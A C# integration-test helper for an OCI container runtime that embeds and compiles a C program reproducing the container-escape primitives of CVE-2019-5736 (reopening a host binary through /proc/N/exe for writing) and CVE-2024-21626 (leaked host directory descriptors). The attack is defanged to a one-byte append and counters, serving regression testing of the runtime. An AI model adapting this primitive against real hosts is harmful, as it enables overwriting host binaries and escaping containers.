using System.Diagnostics;

namespace OciRuntime.Tests.Integration.Attacks;

/// <summary>
/// The attacker inside a container: a small static C program, compiled by the test with clang (busybox's shell is
/// too slow to win a race against an exec that lasts a few milliseconds). It spins over /proc/[0-9]*, and for every
/// process other than itself:
///   - reads /proc/N/exe's target and remembers each distinct one (reported at the end);
///   - opens /proc/N/exe read-only and keeps it (CVE-2019-5736: once no process runs that file any more, the kernel
///     lets the kept descriptor be reopened for writing through /proc/self/fd), unless the target is one of the
///     container's own programs (/bin/..., /spin);
///   - tries every kept descriptor again for O_WRONLY|O_APPEND and, when it opens, appends one byte (an ELF file
///     still runs with a byte appended) and counts a write;
///   - looks through each of N's descriptors for a file named HOST-MARKER beside it or one level up
///     (/proc/N/fd/K/HOST-MARKER, /proc/N/fd/K/../*/HOST-MARKER: CVE-2024-21626's leaked directory).
/// It stops when /stop appears and writes /result: "held H", "wrote W", "leaked L", then "exe TARGET" lines.
/// </summary>
internal static class ProcSpinner
{
    private const string Source = """
        #define _GNU_SOURCE
        #include <dirent.h>
        #include <fcntl.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <time.h>
        #include <unistd.h>

        #define MAXHELD 512
        #define MAXSEEN 64
        static int held[MAXHELD], nheld, wrote, leaked, heldTotal;
        static char seen[MAXSEEN][256];
        static int nseen;

        static void remember(const char *t) {
            for (int i = 0; i < nseen; i++) if (strcmp(seen[i], t) == 0) return;
            if (nseen < MAXSEEN) { strncpy(seen[nseen], t, 255); nseen++; }
        }

        static int ours(const char *t) {
            return strncmp(t, "/bin/", 5) == 0 || strcmp(t, "/spin") == 0;
        }

        static void try_write_held(void) {
            char p[64];
            for (int i = 0; i < nheld; i++) {
                if (held[i] < 0) continue;
                snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
                int w = open(p, O_WRONLY | O_APPEND);
                if (w >= 0) {
                    if (write(w, "", 1) == 1) wrote++;
                    close(w);
                    close(held[i]);
                    held[i] = -1;
                }
            }
        }

        static void try_leak(const char *pid) {
            char dir[64], p[512];
            snprintf(dir, sizeof dir, "/proc/%s/fd", pid);
            DIR *d = opendir(dir);
            if (!d) return;
            struct dirent *e;
            while ((e = readdir(d)) != NULL) {
                if (e->d_name[0] == '.') continue;
                snprintf(p, sizeof p, "%s/%s/HOST-MARKER", dir, e->d_name);
                if (access(p, F_OK) == 0) { leaked++; continue; }
                snprintf(p, sizeof p, "%s/%s/..", dir, e->d_name);
                DIR *up = opendir(p);
                if (!up) continue;
                struct dirent *u;
                while ((u = readdir(up)) != NULL) {
                    char q[1024];
                    if (u->d_name[0] == '.') continue;
                    snprintf(q, sizeof q, "%s/%s/HOST-MARKER", p, u->d_name);
                    if (access(q, F_OK) == 0) { leaked++; break; }
                }
                closedir(up);
            }
            closedir(d);
        }

        int main(int argc, char **argv) {
            int limit = argc > 1 ? atoi(argv[1]) : 300;
            time_t end = time(NULL) + limit;
            char self[32], p[64], t[256];
            snprintf(self, sizeof self, "%d", getpid());
            int fd = open("/ready", O_CREAT | O_WRONLY, 0644);
            if (fd >= 0) close(fd);
            while (access("/stop", F_OK) != 0 && time(NULL) < end) {
                DIR *d = opendir("/proc");
                if (!d) return 2;
                struct dirent *e;
                while ((e = readdir(d)) != NULL) {
                    if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0) continue;
                    snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
                    ssize_t n = readlink(p, t, sizeof t - 1);
                    if (n > 0) {
                        t[n] = 0;
                        remember(t);
                        if (!ours(t) && nheld < MAXHELD) {
                            int h = open(p, O_RDONLY);
                            if (h >= 0) { held[nheld++] = h; heldTotal++; }
                        }
                    }
                    try_leak(e->d_name);
                }
                closedir(d);
                try_write_held();
            }
            try_write_held();
            FILE *out = fopen("/result.tmp", "w");
            if (!out) return 3;
            fprintf(out, "held %d\nwrote %d\nleaked %d\n", heldTotal, wrote, leaked);
            for (int i = 0; i < nseen; i++) fprintf(out, "exe %s\n", seen[i]);
            fclose(out);
            rename("/result.tmp", "/result");
            return 0;
        }
        """;

    /// <summary>Compiles the spinner into <paramref name="rootfs"/>/spin; null when there is no clang here.</summary>
    public static string? BuildInto(string rootfs)
    {
        string clang = "/usr/bin/clang";
        if (!File.Exists(clang)) return null;
        string src = Path.Join(Path.GetDirectoryName(rootfs)!, "spin.c");
        File.WriteAllText(src, Source);
        var psi = new ProcessStartInfo(clang) { RedirectStandardError = true, RedirectStandardOutput = true };
        foreach (var a in new[] { "-static", "-O2", "-o", Path.Join(rootfs, "spin"), src }) psi.ArgumentList.Add(a);
        using var p = Process.Start(psi)!;
        string err = p.StandardError.ReadToEnd();
        p.WaitForExit();
        if (p.ExitCode != 0) throw new InvalidOperationException("clang spin.c: " + err);
        return Path.Join(rootfs, "spin");
    }

    /// <summary>What the spinner wrote to /result.</summary>
    public sealed record Report(int Held, int Wrote, int Leaked, IReadOnlyList<string> ExeTargets)
    {
        public static Report Parse(string text)
        {
            int held = 0, wrote = 0, leaked = 0;
            var exes = new List<string>();
            foreach (var line in text.Split('\n', StringSplitOptions.RemoveEmptyEntries))
            {
                var (key, value) = (line.Split(' ', 2)[0], line.Split(' ', 2).ElementAtOrDefault(1) ?? "");
                switch (key)
                {
                    case "held": held = int.Parse(value); break;
                    case "wrote": wrote = int.Parse(value); break;
                    case "leaked": leaked = int.Parse(value); break;
                    case "exe": exes.Add(value); break;
                }
            }
            return new Report(held, wrote, leaked, exes);
        }

        public override string ToString() => $"held {Held}, wrote {Wrote}, leaked {Leaked}; /proc/N/exe targets seen: {string.Join(", ", ExeTargets)}";
    }
}
